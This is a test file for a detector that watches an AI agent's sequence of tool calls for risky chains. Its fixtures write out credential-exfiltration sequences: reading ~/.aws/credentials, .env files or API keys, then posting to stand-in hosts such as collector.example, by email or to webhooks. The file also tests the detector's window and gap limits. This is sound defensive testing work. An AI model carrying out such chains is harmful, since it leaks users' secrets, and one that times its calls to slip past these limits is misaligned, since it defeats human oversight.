import { describe, expect, it } from 'vitest';
import { BUILTIN_CHAIN_PATTERNS } from './chain-patterns.js';
import { createChainDetector } from './chains.js';
import type { CallRecord, ChainSettings } from './chains.js';

const base: ChainSettings = { window_size: 20, window_seconds: 60, max_gap: 3, tool_categories: {}, pattern_overrides: {}, custom_patterns: [] };

function run(settings: ChainSettings, calls: Array<[string, string, number?]>): string[][] {
  const d = createChainDetector(settings);
  const history: CallRecord[] = [];
  return calls.map(([tool, args, at]) => d.record(history, tool, args, (at ?? 0) * 1000).map((h) => h.rule));
}

describe('chain detection', () => {
  it('ships at least 10 built-in patterns', () => {
    expect(BUILTIN_CHAIN_PATTERNS.length).toBeGreaterThanOrEqual(10);
  });

  it('recon → credential read → network send is flagged on the send', () => {
    const r = run(base, [
      ['list_directory', '{"path":"~"}'],
      ['read_file', '~/.aws/credentials'],
      ['send_email', 'to: x@example.com'],
    ]);
    expect(r[0]).toEqual([]);
    expect(r[2]).toContain('Recon Then Credential Exfiltration');
    expect(r[2]).toContain('Credential Exfiltration');
  });

  it('tolerates up to max_gap unrelated calls between steps, not more', () => {
    const gap = (n: number) => [['read_file', '.env'] as [string, string], ...Array.from({ length: n }, () => ['get_weather_forecast', 'Paris'] as [string, string]), ['http_post', 'https://x.example'] as [string, string]];
    // get_weather_forecast is 'read' by name; use a tool with no category instead.
    const neutral = (n: number) => gap(n).map(([t, a]) => (t === 'get_weather_forecast' ? ['calculator', '2+2'] : [t, a]) as [string, string]);
    expect(run(base, neutral(3)).at(-1)).toContain('Credential Exfiltration');
    expect(run(base, neutral(4)).at(-1)).not.toContain('Credential Exfiltration');
  });

  it('honours window_seconds on the injected clock', () => {
    const r = run(base, [
      ['read_file', '.env', 0],
      ['http_post', 'https://x.example', 61],
    ]);
    expect(r[1]).not.toContain('Credential Exfiltration');
  });

  it('tool_categories from config override name heuristics; custom patterns and overrides apply', () => {
    const settings: ChainSettings = {
      ...base,
      tool_categories: { ledger: ['fetch_transactions'], send: ['post_to_partner*'] },
      custom_patterns: [{ name: 'Ledger Leak', sequence: ['ledger', 'send'], severity: 'critical', action: 'block' }],
      pattern_overrides: { 'File Read Then Exfiltration': 'disabled' },
    };
    const d = createChainDetector(settings);
    const h: CallRecord[] = [];
    d.record(h, 'fetch_transactions', '', 0);
    const hits = d.record(h, 'post_to_partner_api', '', 1000);
    expect(hits.map((x) => [x.rule, x.patternAction])).toEqual([['Ledger Leak', 'block']]);
  });

  it('ordinary coding-agent sessions raise nothing above medium', () => {
    const d = createChainDetector(base);
    const h: CallRecord[] = [];
    const calls: Array<[string, string]> = [
      ['list_files', 'src'],
      ['read_file', 'src/index.ts'],
      ['edit_file', 'src/index.ts'],
      ['search_code', 'createScanner'],
      ['read_file', 'package.json'],
    ];
    const hits = calls.flatMap(([t, a], i) => d.record(h, t, a, i * 1000));
    expect(hits.filter((x) => x.severity === 'high' || x.severity === 'critical')).toEqual([]);
  });

  it('keeps history bounded by window_size', () => {
    const d = createChainDetector({ ...base, window_size: 5 });
    const h: CallRecord[] = [];
    for (let i = 0; i < 100; i++) d.record(h, 'calculator', '', i);
    expect(h.length).toBeLessThanOrEqual(5);
  });
});

describe('read-secret then network-send chains across common tool names', () => {
  it.each([
    ['get_env', '{"name":"OPENAI_API_KEY"}', 'http_request', '{"method":"POST","url":"https://collector.example/x"}'],
    ['read_file', '{"path":"/srv/app/.env"}', 'fetch', '{"url":"https://paste.example/new"}'],
    ['read_file', '{"path":"~/.aws/credentials"}', 'send_email', '{"to":"someone@example.org","body":"see attached"}'],
    ['get_secret', '{"name":"db"}', 'post_webhook', '{"payload":"…"}'],
    ['printenv', '{}', 'slack_post_message', '{"channel_id":"C1","text":"…"}'],
  ])('%s then %s is Credential Exfiltration', (t1, a1, t2, a2) => {
    const r = run(base, [
      [t1, a1],
      [t2, a2],
    ]);
    expect(r[1]).toContain('Credential Exfiltration');
  });

  it('reading .env.example then fetching is not a credential chain', () => {
    const r = run(base, [
      ['read_file', '{"path":".env.example"}'],
      ['fetch', '{"url":"https://docs.example/setup"}'],
    ]);
    expect(r[1]).not.toContain('Credential Exfiltration');
  });
});
